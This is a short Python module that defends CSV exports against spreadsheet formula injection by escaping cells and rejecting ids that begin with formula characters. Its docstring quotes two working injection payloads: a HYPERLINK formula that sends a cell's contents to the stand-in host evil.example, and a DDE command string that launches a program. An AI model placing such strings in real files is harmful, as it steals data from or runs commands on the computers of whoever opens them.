"""CSV files for people, and ids that go into them, safe from spreadsheet formula injection.

A cell such as ``=HYPERLINK("http://evil.example/?"&A1, "Open")`` or ``@SUM(1+1)*cmd|' /C calc'!A0``
in an exported CSV runs as a formula when someone opens the file in Excel, LibreOffice or Google
Sheets. OWASP's advice (https://owasp.org/www-community/attacks/CSV_Injection): a cell that begins
with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading ``'``, which spreadsheets
read as "this is text" and do not show. Every CSV the project writes for people goes through
``csv_row``; ids that begin with those characters are refused where they enter (loaders, mutations),
so the escaping is the second line, for free text such as a city.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")


def is_formula(text: str) -> bool:
    """True when a spreadsheet could read ``text`` as a formula (it begins with a formula lead)."""
    return text.startswith(FORMULA_LEADS)


def csv_cell(value: Any) -> Any:
    """The cell as it should be written: text beginning with a formula lead gets a leading ``'``.
    Numbers and other values are written as they are (a number is never a formula)."""
    if isinstance(value, str) and is_formula(value):
        return "'" + value
    return value


def csv_row(values: Iterable[Any]) -> list[Any]:
    """``csv_cell`` of every value of a row."""
    return [csv_cell(value) for value in values]


def id_problem(value: str) -> str | None:
    """Why ``value`` cannot be an id (it begins with a formula lead), or None."""
    if not is_formula(value):
        return None
    return (
        f"begins with {value[:1]!r}; ids may not begin with =, +, -, @, a tab or a carriage return "
        "(a spreadsheet opening an export would run the id as a formula)"
    )


def check_id(value: str) -> str:
    """``value`` when it may be an id, else ValueError with ``id_problem`` (for pydantic validators)."""
    problem = id_problem(value)
    if problem:
        raise ValueError(problem)
    return value
